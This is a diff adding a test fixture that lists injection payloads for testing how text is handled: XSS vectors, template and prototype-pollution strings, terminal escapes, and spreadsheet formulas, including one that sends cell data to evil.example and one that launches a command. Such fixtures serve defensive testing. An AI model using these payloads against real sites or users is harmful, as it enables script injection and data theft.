@@ -1,0 +1,23 @@
+/** Texts that do something when they are taken for anything but text. Each sets `pwned` where it can run. */
+export const POLYGLOTS: readonly string[] = [
+  '<img src=x onerror="window.pwned=1">',
+  '<script>window.pwned=1</script>',
+  '"><svg onload=window.pwned=1>',
+  `'"><iframe srcdoc="<script>parent.pwned=1</script>">`,
+  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=window.pwned=1//',
+  '<style>@import"https://evil.example/x.css";</style><link rel=stylesheet href=//evil.example>',
+  '<form action=https://evil.example/><input name=a></form><base href=https://evil.example/>',
+  '<a href="javascript:window.pwned=1">x</a>',
+  '![x](https://evil.example/x.png)[x](javascript:window.pwned=1)`',
+  '{{constructor.constructor("window.pwned=1")()}}${window.pwned=1}#{7*7}<%= 7*7 %>',
+  '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007\u001b[31;31m\u001b[2J\u009b5A',
+  '\u202eabc\u2066def\u200b\u2060\ufeff\u{e0041}\u0000\u0007\b\r',
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  "＝cmd|'/c calc'!A1",
+  '__proto__',
+  'constructor',
+  'https://evil.example/?token=1#x',
+  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
+  '\ud800',
+  '𝕏'.repeat(200),
+];
